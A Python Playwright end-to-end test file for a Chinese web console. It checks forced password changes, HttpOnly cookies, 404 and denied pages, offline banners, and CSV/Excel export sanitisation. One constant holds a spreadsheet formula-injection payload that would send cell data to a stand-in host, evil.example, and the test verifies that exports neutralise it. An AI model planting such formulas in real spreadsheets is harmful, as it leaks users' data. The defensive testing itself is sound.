"""Issue 12 in the browser: one-time passwords and the forced change, a session cookie no
script can read, exports that are inert when opened, the Chinese 404 inside the layout, the
way back after login, the banner when the connection drops, and what a denied or someone
else's page shows."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Page, expect

from netsign_console.demo.accounts import DEMO_PASSWORD
from tests.e2e.conftest import screenshot
from tests.e2e.helpers import login

pytestmark = pytest.mark.e2e

NEW_PASSWORD = "Xiangjiang2026"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
LATIN_WORD = re.compile(r"[A-Za-z]{2,}")


def _submit_login(page: Page, username: str, password: str) -> None:
    page.locator("#login_name").fill(username)
    page.locator("#password").fill(password)
    page.locator("#login-submit").click()


def _change(page: Page, old: str, new: str, repeat: str) -> None:
    page.locator("#old_password").fill(old)
    page.locator("#new_password").fill(new)
    page.locator("#repeat_password").fill(repeat)
    page.locator("#change-password-submit").click()


def _reset_password_of(admin: Page, username: str) -> str:
    """As the system admin in 用户名录: tick the user, 重置密码, read the one-time password."""
    admin.goto("/admin/users")
    admin.locator("#admin-search").fill(username)
    row = admin.locator("tr.admin-row", has_text=username).first
    expect(row).to_be_visible()
    row.locator("button[role=checkbox]").click()
    admin.locator("#bulk-reset_password").click()
    admin.locator("#bulk-confirm-reset_password").click()
    secret = admin.locator(".notice-secret").first
    expect(secret).to_be_visible()
    password = secret.inner_text().strip()
    screenshot(admin, "reset-password-notice")
    admin.locator("#notice-close").click()
    expect(admin.locator("#notice-close")).to_have_count(0)
    return password


def _visible_latin(page: Page) -> list[str]:
    """Latin words a person could see or hear: text, and the labels of assistive technology."""
    texts = page.evaluate("""() => {
        const out = [document.title, document.body.innerText];
        for (const el of document.querySelectorAll('[aria-label],[title],[placeholder],[alt]')) {
            for (const name of ['aria-label', 'title', 'placeholder', 'alt']) {
                if (el.getAttribute(name)) out.push(el.getAttribute(name));
            }
        }
        return out;
    }""")
    return [w for t in texts for w in LATIN_WORD.findall(t or "") if w not in ("CSV", "Excel")]


def test_first_login_forces_a_password_change_and_the_cookie_is_out_of_reach(new_page):
    admin = new_page()
    login(admin, "admin")
    expect(admin.locator("#header-user")).to_have_text("admin")  # not the role a second time
    one_time = _reset_password_of(admin, "mortgage_bank")
    assert len(one_time) == 12 and "000003" not in one_time  # not derived from the phone number

    user = new_page()
    user.goto("/login")
    _submit_login(user, "mortgage_bank", DEMO_PASSWORD)  # the reset replaced the old password
    expect(user.locator("#password-error")).to_contain_text("用户名或密码错误")
    _submit_login(user, "mortgage_bank", one_time)
    user.wait_for_url(re.compile(r".*/account/password/?$"))
    expect(user.locator("#must-change")).to_be_visible()
    expect(user.locator("#sidebar a", has_text="在手业务")).to_have_count(0)
    # Nothing else opens before the change, not even by URL.
    user.goto("/inbox")
    user.wait_for_url(re.compile(r".*/account/password/?$"))
    screenshot(user, "change-password-first-login")

    # The session token: an HttpOnly cookie, invisible to scripts and absent from storage.
    cookie = next(c for c in user.context.cookies() if c["name"] == "netsign_token")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert "netsign_token" not in user.evaluate("document.cookie")
    stored = user.evaluate("JSON.stringify([Object.values(localStorage), Object.values(sessionStorage)])")
    assert cookie["value"] not in stored and cookie["value"] not in user.content()

    # The policy at the field, in Chinese; nothing changes on a refusal.
    _change(user, one_time, "short12", "short12")
    expect(user.locator("#new_password-error")).to_have_text("密码至少10位")
    _change(user, one_time, "onlyletterspassword", "onlyletterspassword")
    expect(user.locator("#new_password-error")).to_have_text("密码须同时包含字母和数字")
    _change(user, one_time, "mortgage_bank2026", "mortgage_bank2026")
    expect(user.locator("#new_password-error")).to_have_text("密码不能包含用户名")
    _change(user, one_time, NEW_PASSWORD, NEW_PASSWORD + "x")
    expect(user.locator("#repeat_password-error")).to_have_text("两次输入的新密码不一致")
    _change(user, "not-the-old-one", NEW_PASSWORD, NEW_PASSWORD)
    expect(user.locator("#old_password-error")).to_have_text("原密码不正确")
    screenshot(user, "change-password-refused")
    _change(user, one_time, NEW_PASSWORD, NEW_PASSWORD)
    user.wait_for_url("**/login")
    expect(user.locator("#login-notice")).to_have_text("密码已修改，请使用新密码登录")

    # The old one-time password no longer works, the new one does; no stale error on reload.
    _submit_login(user, "mortgage_bank", one_time)
    expect(user.locator("#password-error")).to_contain_text("用户名或密码错误")
    user.reload()
    expect(user.locator("#login_name")).to_be_visible()
    expect(user.locator("#password-error")).to_have_count(0)
    expect(user.locator("#login-notice")).to_have_count(0)
    _submit_login(user, "mortgage_bank", NEW_PASSWORD)
    expect(user.locator("#header-user")).to_have_text("孙按揭")
    expect(user.locator("#sidebar")).to_contain_text("在手业务")

    # Leave the demo account as the other browser tests log in with it (the policy allows it).
    user.goto("/account/password")
    _change(user, NEW_PASSWORD, DEMO_PASSWORD, DEMO_PASSWORD)
    user.wait_for_url("**/login")


def test_shell_404_way_back_denied_missing_records_and_a_dropped_connection(new_page):
    # After login, back to the page that was asked for.
    page = new_page()
    page.goto("/admin/rooms")
    page.wait_for_url("**/login")
    assert _visible_latin(page) == [], "English on the login page"
    _submit_login(page, "dev_admin", DEMO_PASSWORD)
    page.wait_for_url(re.compile(r".*/admin/rooms/?$"))
    expect(page.locator("#page-title")).to_have_text("户室信息")

    # Room search by an inner part of the number.
    page.locator("#admin-search").fill("0101")
    expect(page.locator("tr.admin-row")).to_have_count(6)  # 1-0101 and 2-0101 of D001, D002 and 东方名苑 1栋
    numbers = [t.strip() for t in page.locator("tr.admin-row a.row-link").all_inner_texts()]
    assert numbers == ["1-0101"] * 3 + ["2-0101"] * 3
    assert _visible_latin(page) == [], "English in the console"

    # The Chinese 404, inside the layout, with a way back.
    page.goto("/no-such-page")
    expect(page.locator("#not-found")).to_contain_text("您访问的页面不存在")
    expect(page.locator("#page-title")).to_have_text("页面不存在")
    expect(page.locator("#sidebar")).to_contain_text("户室信息")
    screenshot(page, "not-found")
    page.locator("#not-found-home").click()
    page.wait_for_url(re.compile(r".*/$"))

    # A denied page redirects before any of it is drawn: its title never appears, not even
    # for a moment (an observer installed before the page's own scripts records every title).
    operator = new_page()
    login(operator, "dev_operator")
    operator.add_init_script("""
        window.__drawn = [];
        new MutationObserver(() => {
            const title = document.getElementById('page-title');
            if (title) window.__drawn.push(title.innerText);
        }).observe(document, {childList: true, subtree: true, characterData: true});
    """)
    operator.goto("/audit")
    operator.wait_for_url("**/denied")
    expect(operator.locator("#denied")).to_contain_text("没有访问该页面的权限")
    drawn = operator.evaluate("window.__drawn")
    assert "审计日志" not in drawn and "无权访问" in drawn, drawn

    # A missing record and another developer's read the same.
    other = new_page()
    login(other, "dev2_admin")
    page.goto("/admin/projects")
    page.locator("tr.admin-row a.row-link").first.click()
    page.wait_for_url(re.compile(r".*/admin/projects/\d+$"))
    foreign = page.url
    for url in (foreign, re.sub(r"\d+$", "999999", foreign), re.sub(r"\d+$", "abc", foreign)):
        other.goto(url)
        other.wait_for_url("**/denied")
        expect(other.locator("#denied")).to_have_text("记录不存在或无权访问")

    # The connection drops: a Chinese banner, inputs blocked; it comes back: said so too.
    page.goto("/admin/projects")
    search = page.locator("#admin-search")
    expect(search).to_be_visible()
    page.context.set_offline(True)
    expect(page.locator("#connection-banner")).to_contain_text("连接已断开，正在重新连接")
    expect(page.locator("#connection-blocker")).to_be_visible()
    screenshot(page, "connection-lost")
    with pytest.raises(Exception):
        search.click(timeout=1500)  # the layer over the page takes the click
    page.keyboard.type("abc")
    assert search.input_value() == ""
    page.context.set_offline(False)
    expect(page.locator("#connection-restored")).to_have_text("已重新连接", timeout=20_000)
    expect(page.locator("#connection-banner")).to_have_count(0)
    search.fill("湘江")
    expect(page.locator("#admin-table")).to_contain_text("湘江")


def test_hostile_values_are_inert_in_exported_excel_and_csv(new_page, tmp_path):
    page = new_page()
    login(page, "dev_admin")
    page.goto("/admin/property-managers/new")
    page.locator("#field-name").fill(HOSTILE)
    page.locator("#field-contact_person").fill("@SUM(1,2)")
    page.locator("#form-save").click()
    page.wait_for_url(re.compile(r".*/admin/property-managers/\d+$"))
    page.goto("/admin/property-managers")
    expect(page.locator("#admin-table")).to_contain_text("HYPERLINK")  # shown as the text it is

    with page.expect_download() as got:
        page.locator("#export-csv").click()
    csv_path = tmp_path / "out.csv"
    got.value.save_as(csv_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r[0])
    assert row[0] == "'" + HOSTILE and row[2] == "'@SUM(1,2)"

    with page.expect_download() as got:
        page.locator("#export-xlsx").click()
    xlsx_path = tmp_path / "out.xlsx"
    got.value.save_as(xlsx_path)
    with zipfile.ZipFile(xlsx_path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(xlsx_path).worksheets[0]
    cell = next(r[0] for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value))
    assert cell.value == HOSTILE and cell.data_type == "s" and cell.quotePrefix
